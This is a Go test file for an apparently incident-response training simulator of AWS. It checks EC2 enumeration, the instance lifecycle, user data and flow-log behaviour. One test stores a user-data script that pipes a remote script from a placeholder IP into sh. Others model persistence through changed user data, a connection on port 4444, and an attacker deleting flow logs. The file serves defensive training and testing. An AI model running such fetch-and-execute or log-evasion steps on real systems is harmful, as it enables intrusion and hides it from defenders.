package awssim_test

import (
	"compress/gzip"
	"encoding/base64"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/firedrill-ir/firedrill/cloudsim/world"
	"github.com/firedrill-ir/firedrill/cloudsim/world/awsworld"
)

// TestCLIEC2Enumeration: what a responder (or an attacker) lists first
// about the network and launch surface, through the AWS CLI.
func TestCLIEC2Enumeration(t *testing.T) {
	t.Parallel()
	e := newCLIEnv(t)

	vpcs := list(t, e.run("ec2", "describe-vpcs"), "Vpcs")
	require.Len(t, vpcs, 1)
	require.Equal(t, e.env.VPC, vpcs[0].(map[string]any)["VpcId"])
	require.Equal(t, "10.20.0.0/16", vpcs[0].(map[string]any)["CidrBlock"])
	require.Contains(t, e.fail("ec2", "describe-vpcs", "--vpc-ids", "vpc-0123456789abcdef0"), "InvalidVpcID.NotFound")

	subnets := list(t, e.run("ec2", "describe-subnets", "--filters", "Name=vpc-id,Values="+e.env.VPC), "Subnets")
	require.Len(t, subnets, 2)
	require.Regexp(t, `^use1-az[12]$`, subnets[0].(map[string]any)["AvailabilityZoneId"])
	free := map[any]any{}
	for _, s := range subnets {
		free[s.(map[string]any)["CidrBlock"]] = s.(map[string]any)["AvailableIpAddressCount"]
	}
	require.Equal(t, map[any]any{"10.20.1.0/24": 251.0 - 2, "10.20.2.0/24": 251.0 - 1}, free, "web-1 and web-3 are in the first subnet")
	require.Contains(t, e.fail("ec2", "describe-subnets", "--filters", "Name=colour,Values=blue"), "The filter 'colour' is invalid")

	rules := list(t, e.run("ec2", "describe-security-group-rules", "--filters", "Name=group-id,Values="+e.env.SecurityGroup), "SecurityGroupRules")
	var ports []float64
	for _, r := range rules {
		r := r.(map[string]any)
		require.Equal(t, e.env.SecurityGroup, r["GroupId"])
		if r["IsEgress"] == false {
			ports = append(ports, r["FromPort"].(float64))
		}
	}
	require.ElementsMatch(t, []float64{443, 22}, ports)
	ruleID := rules[0].(map[string]any)["SecurityGroupRuleId"].(string)
	require.Len(t, list(t, e.run("ec2", "describe-security-group-rules", "--security-group-rule-ids", ruleID), "SecurityGroupRules"), 1)

	images := list(t, e.run("ec2", "describe-images", "--owners", "amazon", "--image-ids", "ami-0f3c9c1a2b3d4e5f6"), "Images")
	require.Len(t, images, 1)
	require.Equal(t, "available", images[0].(map[string]any)["State"])
	require.Empty(t, list(t, e.run("ec2", "describe-images", "--owners", "self"), "Images"))
	require.Contains(t, e.fail("ec2", "describe-images", "--image-ids", "ami-00000000"), "InvalidAMIID.NotFound")

	// Key pairs are the names instances were launched with.
	require.Empty(t, list(t, e.run("ec2", "describe-key-pairs"), "KeyPairs"))
	e.run("ec2", "run-instances", "--image-id", "ami-0f3c9c1a2b3d4e5f6", "--key-name", "ops-2026", "--count", "1")
	keys := list(t, e.run("ec2", "describe-key-pairs"), "KeyPairs")
	require.Len(t, keys, 1)
	require.Equal(t, "ops-2026", keys[0].(map[string]any)["KeyName"])
	require.Regexp(t, `^key-[0-9a-f]{17}$`, keys[0].(map[string]any)["KeyPairId"])
	require.Contains(t, e.fail("ec2", "describe-key-pairs", "--key-names", "nope"), "InvalidKeyPair.NotFound")

	// describe-volumes: the CLI v1 sends MaxResults=1000 and pages on.
	vols := list(t, e.run("ec2", "describe-volumes"), "Volumes")
	require.Len(t, vols, 7, "root and data volume of three web instances, root of the new one")
	require.Contains(t, e.fail("ec2", "describe-volumes", "--max-results", "1001"),
		"Value ( 1001 ) for parameter maxResults is invalid. Expecting a value between 5 and 1000.")
	page := e.run("ec2", "describe-volumes", "--max-results", "5", "--no-paginate")
	require.Len(t, list(t, page, "Volumes"), 5)
	require.NotEmpty(t, page["NextToken"])
	rest := e.run("ec2", "describe-volumes", "--max-results", "5", "--no-paginate", "--next-token", page["NextToken"].(string))
	require.Len(t, list(t, rest, "Volumes"), 2)

	for _, op := range []string{"DescribeVpcs", "DescribeSubnets", "DescribeSecurityGroupRules", "DescribeImages", "DescribeKeyPairs"} {
		require.Contains(t, e.audited(), op)
	}
}

// TestCLIEC2InstanceLifecycle: start a stopped instance (stopped -> pending
// -> running), read its user data and console output.
func TestCLIEC2InstanceLifecycle(t *testing.T) {
	t.Parallel()
	e := newCLIEnv(t)
	script := "#!/bin/bash\ncurl -s http://203.0.113.9/x.sh | sh\n"
	dir := t.TempDir()
	ud := filepath.Join(dir, "ud.sh")
	require.NoError(t, os.WriteFile(ud, []byte(script), 0o600))
	out := e.run("ec2", "run-instances", "--image-id", "ami-0f3c9c1a2b3d4e5f6", "--count", "1", "--user-data", "file://"+ud)
	id := list(t, out, "Instances")[0].(map[string]any)["InstanceId"].(string)

	attr := e.run("ec2", "describe-instance-attribute", "--instance-id", id, "--attribute", "userData")
	b64 := obj(t, attr, "UserData")["Value"].(string)
	got, err := base64.StdEncoding.DecodeString(b64)
	require.NoError(t, err)
	require.Equal(t, script, string(got))
	noUD := e.run("ec2", "describe-instance-attribute", "--instance-id", e.env.Instances[0], "--attribute", "userData")
	require.Empty(t, obj(t, noUD, "UserData")["Value"])

	state := func() string {
		r := list(t, e.run("ec2", "describe-instances", "--instance-ids", id), "Reservations")
		return r[0].(map[string]any)["Instances"].([]any)[0].(map[string]any)["State"].(map[string]any)["Name"].(string)
	}
	require.Equal(t, "pending", state())
	// Starting a pending instance is a no-op, as in EC2.
	e.run("ec2", "start-instances", "--instance-ids", id)
	e.advance(2 * time.Minute)
	require.Equal(t, "running", state())

	console := e.run("ec2", "get-console-output", "--instance-id", id)
	require.Contains(t, console["Output"], "Cloud-init v. 22.2.2 finished", "the CLI decodes the base64 output")
	require.Contains(t, console["Output"], "running user-data script")

	e.run("ec2", "stop-instances", "--instance-ids", id)
	require.Contains(t, e.fail("ec2", "start-instances", "--instance-ids", id), "IncorrectInstanceState", "a stopping instance cannot start")
	e.advance(2 * time.Minute)
	require.Equal(t, "stopped", state())
	// Persistence through user data: changed while the instance is stopped.
	e.run("ec2", "modify-instance-attribute", "--instance-id", id, "--user-data", "Value=#!/bin/sh\necho planted")
	attr = e.run("ec2", "describe-instance-attribute", "--instance-id", id, "--attribute", "userData")
	got, err = base64.StdEncoding.DecodeString(obj(t, attr, "UserData")["Value"].(string))
	require.NoError(t, err)
	require.Equal(t, "#!/bin/sh\necho planted", string(got))
	require.Contains(t, e.fail("ec2", "modify-instance-attribute", "--instance-id", e.env.Instances[0], "--user-data", "Value=x"),
		"IncorrectInstanceState", "only a stopped instance's user data can change")
	started := list(t, e.run("ec2", "start-instances", "--instance-ids", id), "StartingInstances")[0].(map[string]any)
	require.Equal(t, "stopped", started["PreviousState"].(map[string]any)["Name"])
	require.Equal(t, "pending", started["CurrentState"].(map[string]any)["Name"])
	require.Equal(t, "pending", state())
	e.advance(2 * time.Minute)
	require.Equal(t, "running", state())
	require.Contains(t, e.audited(), "StartInstances")
	require.Contains(t, e.audited(), "GetConsoleOutput")

	// A developer without ec2:StartInstances is refused, and that is audited.
	e.world.Lock()
	awsworld.Of(e.world).AddUser(e.env.Account, "viewer", "arn:aws:iam::aws:policy/ReadOnlyAccess")
	k, err := awsworld.Of(e.world).AddAccessKey("viewer")
	e.world.Unlock()
	require.NoError(t, err)
	e.key, e.secret = k.ID, k.Secret
	require.Contains(t, e.fail("ec2", "start-instances", "--instance-ids", id), "UnauthorizedOperation")
}

// TestCLIFlowLogsDeliveredToS3: the demo VPC's flow log is described, and
// its records are readable where they are delivered, in the logs bucket.
func TestCLIFlowLogsDeliveredToS3(t *testing.T) {
	t.Parallel()
	e := newCLIEnv(t)
	fls := list(t, e.run("ec2", "describe-flow-logs"), "FlowLogs")
	require.Len(t, fls, 1)
	fl := fls[0].(map[string]any)
	require.Equal(t, e.env.VPC, fl["ResourceId"])
	require.Equal(t, "s3", fl["LogDestinationType"])
	require.Equal(t, "arn:aws:s3:::firedrill-demo-logs", fl["LogDestination"])

	// An instance talks to the internet; ten minutes later, plus delivery,
	// the window's records are in the bucket.
	e.world.Lock()
	_, err := awsworld.Of(e.world).OpenFlow(e.env.Instances[0], world.FlowSpec{RemoteIP: "198.51.100.77", RemotePort: 4444})
	e.world.Unlock()
	require.NoError(t, err)
	e.advance(16 * time.Minute)

	keys := e.run("s3api", "list-objects-v2", "--bucket", "firedrill-demo-logs", "--prefix", "AWSLogs/"+e.env.Account+"/vpcflowlogs/")
	contents := list(t, keys, "Contents")
	require.Len(t, contents, 1)
	key := contents[0].(map[string]any)["Key"].(string)
	require.Contains(t, key, fl["FlowLogId"].(string))
	dst := filepath.Join(t.TempDir(), "flows.log.gz")
	e.run("s3", "cp", "s3://firedrill-demo-logs/"+key, dst)
	f, err := os.Open(dst)
	require.NoError(t, err)
	defer f.Close()
	zr, err := gzip.NewReader(f)
	require.NoError(t, err)
	body, err := io.ReadAll(zr)
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(body)), "\n")
	require.Equal(t, "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status", lines[0])
	require.Len(t, lines, 3, "one record each way")
	require.Contains(t, string(body), " 198.51.100.77 ")
	require.Contains(t, string(body), " 4444 6 ")

	// An attacker deletes the flow log: delivery stops; a responder puts
	// one back on the instance's interface.
	e.run("ec2", "delete-flow-logs", "--flow-log-ids", fl["FlowLogId"].(string))
	require.Empty(t, list(t, e.run("ec2", "describe-flow-logs"), "FlowLogs"))
	require.Contains(t, e.audited(), "DeleteFlowLogs")
	e.advance(30 * time.Minute)
	contents = list(t, e.run("s3api", "list-objects-v2", "--bucket", "firedrill-demo-logs", "--prefix", "AWSLogs/"+e.env.Account+"/vpcflowlogs/"), "Contents")
	require.Len(t, contents, 1, "what was delivered stays; the window open at deletion and later ones never come")
	unsucc := e.run("ec2", "delete-flow-logs", "--flow-log-ids", "fl-0123456789abcdef0")
	require.Len(t, list(t, unsucc, "Unsuccessful"), 1)

	e.world.Lock()
	eni := e.world.Instances.Lookup(e.env.Instances[0]).ENIs[0]
	e.world.Unlock()
	created := e.run("ec2", "create-flow-logs", "--resource-type", "NetworkInterface", "--resource-ids", eni, "vpc-0000000000000000f",
		"--traffic-type", "ALL", "--log-destination-type", "s3", "--log-destination", "arn:aws:s3:::firedrill-demo-forensics/flows")
	require.Len(t, list(t, created, "FlowLogIds"), 1)
	require.Len(t, list(t, created, "Unsuccessful"), 1, "the VPC that does not exist")
	require.Contains(t, e.fail("ec2", "create-flow-logs", "--resource-type", "VPC", "--resource-ids", e.env.VPC, "--traffic-type", "ALL",
		"--log-group-name", "flows", "--deliver-logs-permission-arn", "arn:aws:iam::111122223333:role/flows"), "not simulated by firedrill")
	e.advance(16 * time.Minute)
	contents = list(t, e.run("s3api", "list-objects-v2", "--bucket", "firedrill-demo-forensics", "--prefix", "flows/AWSLogs/"), "Contents")
	require.Len(t, contents, 1, "the flow to 198.51.100.77 is still up and logged by the new flow log")
}
